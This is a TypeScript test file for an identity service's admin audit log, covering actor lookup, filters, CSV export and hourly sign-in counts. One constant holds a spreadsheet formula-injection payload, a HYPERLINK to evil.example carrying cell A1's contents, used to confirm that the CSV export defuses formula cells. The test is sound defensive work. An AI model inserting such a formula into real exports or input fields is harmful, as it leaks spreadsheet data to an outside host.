// The audit log as the console reads it: usernames for actors, filters for actor (by username),
// outcome, type and time, the CSV export (formula cells defused) and sign-ins per hour.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type RunningLock, startLock } from '../helpers/lock.ts';
import { loginConfig } from '../helpers/login-fixtures.ts';
import { postOnce } from '../helpers/sign-in-attempts.ts';
import { ADMIN_PASSWORD, type AdminApi, adminApi, consoleToken } from './admin-api.ts';

const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")';

interface Event {
  type: string;
  outcome: string;
  actor: string | null;
  actorName: string | null;
  subject: string | null;
  ip: string | null;
  at: string;
}

describe('admin API: the audit log for the console', () => {
  let lock: RunningLock;
  let api: AdminApi;
  let token: string;

  before(async () => {
    lock = await startLock({ config: loginConfig, env: { LOCK_BOOTSTRAP_ADMIN_PASSWORD: ADMIN_PASSWORD } });
    token = await consoleToken(lock.issuer, 'admin', ADMIN_PASSWORD);
    api = adminApi(lock.issuer, token);
    assert.equal((await postOnce(lock.issuer, 'alice', 'not her password')).outcome, 'refused');
    assert.equal((await postOnce(lock.issuer, FORMULA_NAME, 'whatever it is')).outcome, 'refused');
    assert.equal((await api('POST', '/roles', { body: { name: 'auditor' } })).status, 201);
  });
  after(async () => {
    await lock.close();
    await lock.database.drop();
  });

  it('names the account that acted, with its address, and filters by that name and by outcome', async () => {
    const all = (await api('GET', '/audit-events?limit=200')).body.items as Event[];
    const created = all.find((event) => event.type === 'admin.role.created')!;
    assert.equal(created.actorName, 'admin', 'the actor sub is resolved to the username');
    assert.notEqual(created.actor, 'admin', 'the actor itself stays the sub');
    const signIn = all.find((event) => event.type === 'login.password' && event.outcome === 'success')!;
    assert.equal(signIn.actorName, 'admin');
    assert.ok(signIn.ip, 'the address is recorded and returned');

    const byName = (await api('GET', '/audit-events?actor=admin&limit=200')).body.items as Event[];
    assert.ok(byName.length >= 2);
    assert.ok(byName.every((event) => event.actorName === 'admin'));
    const bySub = (await api('GET', `/audit-events?actor=${encodeURIComponent(created.actor!)}&limit=200`))
      .body.items as Event[];
    assert.equal(bySub.length, byName.length);

    const failures = (await api('GET', '/audit-events?outcome=failure&limit=200')).body.items as Event[];
    assert.deepEqual(
      failures.map((event) => [event.type, event.subject]).sort(),
      [
        ['login.password', 'alice'],
        ['login.password', FORMULA_NAME],
      ].sort(),
    );
    const later = new Date(Date.now() + 60_000).toISOString();
    const none = await api('GET', `/audit-events?from=${encodeURIComponent(later)}`);
    assert.deepEqual(none.body.items, []);
    const typed = (await api('GET', '/audit-events?type=admin.*&outcome=success')).body.items as Event[];
    assert.deepEqual(
      typed.map((event) => event.type),
      ['admin.role.created'],
    );
    assert.equal((await api('GET', '/audit-events?outcome=maybe')).status, 400);
  });

  it('exports CSV with the same filters; a cell that would be a formula is defused', async () => {
    const response = await fetch(`${lock.issuer}/admin/api/v1/audit-events.csv?outcome=failure`, {
      headers: { authorization: `Bearer ${token}` },
    });
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(response.headers.get('content-disposition') ?? '', /attachment; filename="lock-audit.csv"/);
    const lines = (await response.text()).trimEnd().split('\r\n');
    assert.equal(
      lines[0],
      'time,type,outcome,actor,actor_id,subject,connector,client_id,address,reason,user_agent,request_id,details',
    );
    assert.equal(lines.length, 3, 'the header and the two failures');
    const formula = lines.find((line) => line.includes('HYPERLINK'))!;
    assert.ok(
      formula.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`),
      `the subject cell starts with an apostrophe, quotes doubled: ${formula}`,
    );
    assert.ok(!/(^|,)"?[=+\-@]/.test(formula), 'no cell starts with a formula character');
    const unauthenticated = await fetch(`${lock.issuer}/admin/api/v1/audit-events.csv`);
    assert.equal(unauthenticated.status, 401);
  });

  it('counts sign-ins and failures per hour over the last week', async () => {
    const chart = await api('GET', '/audit-events/sign-ins-per-hour');
    assert.equal(chart.status, 200, chart.text);
    assert.equal(chart.body.hours.length, 7 * 24);
    const last = chart.body.hours.at(-1);
    assert.ok(new Date(last.hour).getTime() <= Date.now());
    assert.ok(Date.now() - new Date(last.hour).getTime() < 3_600_000);
    // This test's events are in the last hour or two (a run may cross the hour).
    const recent = chart.body.hours.slice(-2) as Array<{ successes: number; failures: number }>;
    const sum = (key: 'successes' | 'failures') => recent.reduce((total, hour) => total + hour[key], 0);
    assert.equal(sum('failures'), 2, JSON.stringify(recent));
    assert.equal(sum('successes'), 1, 'the admin signed in once (its TOTP step is not a second sign-in)');
    const earlier = chart.body.hours.slice(0, -2);
    assert.ok(
      earlier.every((hour: { successes: number; failures: number }) => hour.successes + hour.failures === 0),
    );
  });
});
